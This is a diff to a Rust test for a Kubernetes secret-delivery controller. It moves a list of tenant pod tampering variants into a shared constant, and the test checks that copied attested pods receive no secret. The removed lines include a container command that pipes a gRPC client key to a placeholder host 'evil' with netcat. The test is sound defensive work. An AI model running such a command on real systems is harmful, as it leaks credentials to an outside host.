@@ -314,9 +314,6 @@ async fn an_owner_issued_before_attestations_is_renewed_only_if_keyward_signed_i
     assert!(events(&fake).iter().any(|e| e["reason"] == "UnverifiedSecret"));
 }
 
-/// A change a tenant makes to her copy of a pod, named.
-type Change = (&'static str, fn(&mut Value));
-
 /// A tenant who may create, get and list pods in team-a (not exec into them) copies the
 /// operator's attested driver pod (its annotations, labels, owner reference and keyward's
 /// volumes) onto pods of her own. With Secret delivery, none of them makes keyward issue the
@@ -337,27 +334,7 @@ async fn a_tenants_copy_of_an_attested_pod_gets_no_secret_whatever_it_changes() 
         change(&mut p);
         p
     };
-    let variants: [Change; 4] = [
-        ("image", |p| p["spec"]["containers"][0]["image"] = json!("quay.io/tenant/steal:1")),
-        ("command", |p| {
-            p["spec"]["containers"][0]["command"] = json!(["sh", "-c", "cat $GRPC_CLIENT_KEY | nc evil 80"])
-        }),
-        ("volume", |p| {
-            p["spec"]["volumes"]
-                .as_array_mut()
-                .unwrap()
-                .push(json!({"name": "tools", "configMap": {"name": "tenant-tools", "defaultMode": 420}}));
-            p["spec"]["containers"][0]["volumeMounts"]
-                .as_array_mut()
-                .unwrap()
-                .push(json!({"name": "tools", "mountPath": "/opt/app-root/src"}));
-        }),
-        ("account", |p| {
-            p["spec"]["serviceAccountName"] = json!("tenant-builder");
-            p["spec"]["serviceAccount"] = json!("tenant-builder");
-        }),
-    ];
-    for (what, change) in variants {
+    for (what, change) in TENANT_CHANGES {
         r.owner(&owner_key(), &claims(&r, &copy(what, &change))).await.unwrap();
     }
     // The very same pod, an hour after the operator's was admitted (and gone).
